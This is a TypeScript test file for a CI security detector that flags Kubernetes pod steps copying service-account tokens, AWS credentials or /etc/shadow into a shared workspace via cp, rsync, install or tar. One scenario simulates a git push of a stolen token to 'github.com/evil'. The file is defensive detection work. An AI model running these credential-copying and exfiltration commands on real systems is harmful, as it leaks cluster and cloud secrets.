/**
 * The copy forms a pod's step may use to put a secret into the shared workspace, beyond `cp`/`mv`/`ln`/`install`
 * to an absolute path (workspace-steps.test.ts): a relative source or destination (resolved against the exec's
 * working directory, which Tetragon and Falco give), `cp --parents`, `-t`/`--target-directory`, `install -D`
 * and `rsync` on the node's own filesystem; and their look-alikes that must stay quiet.
 */
import { describe, expect, it } from 'vitest';
import { relinked } from '../../../src/correlate/relinks.js';
import { counterValue, runResolved, Scenario } from './builder.js';
import { expectQuiet, expectSecretRead, steps, summary, TOKEN } from './workspace-scenario.js';

const SA = '/var/run/secrets/kubernetes.io/serviceaccount';

describe("copies into a pod's workspace by a relative path", () => {
  it('resolve a relative destination against the working directory', async () => {
    await expectSecretRead([
      { copy: `${TOKEN} .`, cwd: '/workspace/source', read: '/workspace/source/token' },
      { copy: `${TOKEN} t.txt`, cwd: '/workspace/source', read: '/workspace/source/t.txt' },
      { copy: `${TOKEN} ../source/`, cwd: '/workspace/other', read: '/workspace/source/token' },
      // Falco's proc.cwd ends with a slash.
      { copy: `${TOKEN} ctx/t`, cwd: '/workspace/source/', read: '/workspace/source/ctx/t' },
      {
        binary: '/bin/mv',
        copy: '/root/.aws/credentials ./aws',
        cwd: '/workspace/source',
        read: '/workspace/source/aws',
      },
    ]);
  });

  it('resolve a relative source against the working directory', async () => {
    await expectSecretRead([
      { copy: 'token /workspace/source/', cwd: SA, read: '/workspace/source/token' },
      { copy: './token /workspace/source/t', cwd: `${SA}/`, read: '/workspace/source/t' },
      { copy: '-r serviceaccount /workspace/sa', cwd: '/var/run/secrets/kubernetes.io', read: '/workspace/sa/token' },
      { copy: '.aws/credentials aws', cwd: '/root', read: '/root/aws' },
    ]);
  });

  it('stay quiet without a working directory, or for a file that is no secret', async () => {
    await expectQuiet([
      { copy: `${TOKEN} token`, reads: ['/workspace/source/token'] },
      { copy: 'token /workspace/source/', reads: ['/workspace/source/token'] },
      { copy: '/etc/os-release .', cwd: '/workspace/source', reads: ['/workspace/source/os-release'] },
      { copy: 'os-release /workspace/source/token', cwd: '/etc' },
      { copy: '--help', cwd: SA, reads: ['/workspace/source/token'] },
    ]);
  });
});

describe('copies by paths written with `.`, `..` or doubled slashes', () => {
  // Found by review: the absolute source `/var/run/./secrets/…` was no secret and `/workspace//source/t` no place
  // the other step reads, so the copy raised `low`; relative paths were already resolved.
  it('find the secret and the copy as the kernel resolves them', async () => {
    await expectSecretRead([
      {
        copy: '/var/run/./secrets/kubernetes.io/serviceaccount/token /workspace/source/t',
        read: '/workspace/source/t',
      },
      {
        copy: '//var/run/secrets/kubernetes.io/serviceaccount/token /workspace/source/',
        read: '/workspace/source/token',
      },
      { copy: `${TOKEN} /workspace//source/./t`, read: '/workspace/source/t' },
      { copy: `${TOKEN} /workspace/other/../source/`, read: '/workspace/source/token' },
    ]);
  });

  it('take `.` and `..` as directories the source goes into, not as its new name', async () => {
    // `cp -r DIR .` puts DIR/ in the working directory: the directory's other files are not the secret's.
    await expectQuiet([
      { copy: `-r ${SA} .`, cwd: '/workspace/source', reads: ['/workspace/source/Dockerfile'] },
      { copy: `-r ${SA} ..`, cwd: '/workspace/source/ctx', reads: ['/workspace/source/Dockerfile'] },
      { copy: `-r ${SA} /workspace/source/.`, reads: ['/workspace/source/Dockerfile'] },
    ]);
    await expectSecretRead([
      { copy: `-r ${SA} .`, cwd: '/workspace/source', read: '/workspace/source/serviceaccount/token' },
    ]);
  });
});

describe('cp --parents, -t and install -D', () => {
  it('find the copy where the tool put it', async () => {
    await expectSecretRead([
      { copy: `--parents ${TOKEN} /workspace/`, read: `/workspace${TOKEN}` },
      { copy: `-v --parents -t /workspace ${TOKEN}`, read: `/workspace${TOKEN}` },
      {
        copy: '--pa kubernetes.io/serviceaccount/token /workspace/source',
        cwd: '/var/run/secrets',
        read: '/workspace/source/kubernetes.io/serviceaccount/token',
      },
      { copy: `-r --parents ${SA} /workspace`, read: `/workspace${SA}/ca.crt` },
      { copy: `--target-directory=/workspace/source ${TOKEN}`, read: '/workspace/source/token' },
      { copy: `--target-directory /workspace/source ${TOKEN}`, read: '/workspace/source/token' },
      { copy: `-vt /workspace/source ${TOKEN}`, read: '/workspace/source/token' },
      {
        binary: '/usr/bin/install',
        copy: `-D -m 600 ${TOKEN} /workspace/source/ctx/t`,
        read: '/workspace/source/ctx/t',
      },
      { binary: '/usr/bin/install', copy: `-Dt /workspace/source/ctx ${TOKEN}`, read: '/workspace/source/ctx/token' },
    ]);
  });

  it('do not make the name without the path, or the directory, a secret', async () => {
    await expectQuiet([
      { copy: `--parents ${TOKEN} /workspace/source/`, reads: ['/workspace/source/token'] },
      { copy: `-t /workspace/source ${TOKEN}`, reads: ['/workspace/source/Dockerfile', '/workspace/source/main.go'] },
    ]);
  });
});

describe('rsync on the node', () => {
  it('copies a file, a directory, its contents or its relative path into the workspace', async () => {
    await expectSecretRead([
      { binary: '/usr/bin/rsync', copy: `-a ${TOKEN} /workspace/source/`, read: '/workspace/source/token' },
      { binary: '/usr/bin/rsync', copy: `-av ${SA} /workspace/`, read: '/workspace/serviceaccount/token' },
      { binary: '/usr/bin/rsync', copy: `-a ${SA}/ /workspace/sa`, read: '/workspace/sa/token' },
      {
        binary: '/usr/bin/rsync',
        copy: `-aR /var/run/secrets/./kubernetes.io/serviceaccount/token /workspace/`,
        read: '/workspace/kubernetes.io/serviceaccount/token',
      },
      {
        binary: '/usr/bin/rsync',
        copy: `--exclude '*.crt' -e ssh --chmod=F600 ${TOKEN} /workspace/source/t`,
        read: '/workspace/source/t',
      },
      { binary: '/usr/bin/rsync', copy: '-a token ../ws/', cwd: SA, read: '/var/run/secrets/kubernetes.io/ws/token' },
      { binary: '/bin/busybox', copy: `rsync -a ${TOKEN} /workspace/source/`, read: '/workspace/source/token' },
    ]);
  });

  it('stays quiet for other files, copies from or to another host, and a source that is no secret', async () => {
    await expectQuiet(
      [
        { binary: '/usr/bin/rsync', copy: `-a ${TOKEN} /workspace/source/` },
        { binary: '/usr/bin/rsync', copy: `-a ${TOKEN} backup:/workspace/source/` },
        { binary: '/usr/bin/rsync', copy: `-a backup:${SA}/ /workspace/source/` },
        { binary: '/usr/bin/rsync', copy: '-a /srv/app/ /workspace/source/', reads: ['/workspace/source/main.go'] },
        { binary: '/usr/bin/rsync', copy: '--version' },
      ].map((o) => ({ ...o, reads: o.reads ?? ['/workspace/source/Dockerfile'] })),
    );
  });
});

describe('tar archiving a secret into the workspace', () => {
  it('makes the archive a copy of the secret', async () => {
    await expectSecretRead([
      { binary: '/bin/tar', copy: `-czf /workspace/source/sa.tgz ${SA}`, read: '/workspace/source/sa.tgz' },
      { binary: '/bin/tar', copy: `cf /workspace/source/t.tar ${TOKEN}`, read: '/workspace/source/t.tar' },
      {
        binary: '/usr/bin/tar',
        copy: '--create --file=t.tar -C /var/run/secrets kubernetes.io/serviceaccount/token',
        cwd: '/workspace/source',
        read: '/workspace/source/t.tar',
      },
      { binary: '/bin/busybox', copy: `tar -c -f /workspace/t.tar -v ${TOKEN}`, read: '/workspace/t.tar' },
    ]);
  });

  it('stays quiet for an archive of no secret, to stdout, or extracted, and for the workspace beside it', async () => {
    await expectQuiet(
      [
        { copy: '-czf /workspace/source/app.tgz /srv/app', reads: ['/workspace/source/app.tgz'] },
        { copy: `-czf - ${TOKEN}`, reads: ['/workspace/source/-'] },
        { copy: '-xzf /tmp/sa.tgz -C /workspace/source', reads: ['/workspace/source/token'] },
        { copy: `-tf /workspace/source/t.tar ${TOKEN}`, reads: ['/workspace/source/t.tar'] },
        { copy: `-cf /workspace/source/t.tar ${TOKEN}`, reads: ['/workspace/source/Dockerfile'] },
      ].map((o) => ({ ...o, binary: '/bin/tar' })),
    );
  });
});

describe('a copy read in its own container', () => {
  it('counts the secret it read, not the copy, and no other container inherits it', async () => {
    const own = summary((await runResolved(steps({ sameContainer: true }))).alerts);
    expect(own).toEqual([['sensitive-read-then-push', 'high', 'step-fetch', 'kaniko', [TOKEN]]]);
  });
});

describe('relinked', () => {
  it('skips the values of rsync options and takes nothing from a copy to another host', () => {
    expect(relinked('/usr/bin/rsync', `-e 'ssh -p 2222' --filter='- *.o' -f '- x' ${TOKEN} /w/`)).toMatchObject({
      sources: [TOKEN],
      target: '/w',
      into: ['/w/token'],
    });
    expect(relinked('/usr/bin/rsync', `-a ${TOKEN} rsync://h/m/`).sources).toEqual([]);
    expect(relinked('/usr/bin/rsync', `${TOKEN} u@h:/w/`).sources).toEqual([]);
  });

  it("takes tar's old-style bundle values in order, and names after -C from that directory", () => {
    expect(relinked('/bin/tar', 'cCf /root /w/a.tar .aws')).toMatchObject({
      sources: ['/root/.aws'],
      target: '/w/a.tar',
    });
    expect(relinked('/usr/bin/gtar', '-C /root -czf a.tgz .aws -C .. etc/shadow', '/w')).toMatchObject({
      sources: ['/root/.aws', '/etc/shadow'],
      target: '/w/a.tgz',
      into: ['/w/a.tgz', '/w/a.tgz'],
    });
    // A plain tar may be busybox's, whose one -C, the last (`..` from /w), holds every name: both readings' names.
    expect(relinked('/bin/tar', '-C /root -czf a.tgz .aws -C .. etc/shadow', '/w')).toMatchObject({
      sources: ['/root/.aws', '/etc/shadow', '/.aws'],
      target: '/w/a.tgz',
    });
  });

  it('resolves a relative symbolic link against its own directory, not the working directory', () => {
    expect(relinked('/bin/ln', '-s ../secrets/token /workspace/t', '/tmp').sources).toEqual(['/secrets/token']);
    expect(relinked('/bin/ln', 'token /workspace/t', SA).sources).toEqual([TOKEN]);
  });
});

describe('pods remembered for their copies', () => {
  it('forget the pod whose last copy is oldest, not the first to copy', async () => {
    const s = new Scenario();
    const copyIn = (pod: string) => {
      const c = s.container({ namespace: 'ci', pod, name: 'step-fetch' });
      s.exec(c, '/bin/cp', `${TOKEN} /workspace/source/`, { parent: s.init(c) });
      s.wait(1);
    };
    copyIn('run-0');
    for (let i = 1; i < 1024; i++) copyIn(`run-${i}`);
    // run-0 copies again: the most recent now; the next new pod evicts run-1.
    copyIn('run-0');
    copyIn('run-1024');
    const step2 = s.container({ namespace: 'ci', pod: 'run-0', name: 'step-build' });
    const p = s.exec(step2, '/usr/bin/git', 'push https://github.com/evil/x main', { parent: s.init(step2) });
    s.read(p, '/workspace/source/token', 1_000).connect(p, '140.82.112.3', 443).send(p, '140.82.112.3', 443, 9_000);
    s.wait(2_000).exit(p).wait(60_000);
    const { alerts, metrics } = await runResolved(s.events);
    expect(summary(alerts)).toEqual([
      ['sensitive-read-then-push', 'high', 'step-build', 'git', ['/workspace/source/token']],
    ]);
    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'pod_copy' })).toBe(1);
  });
});
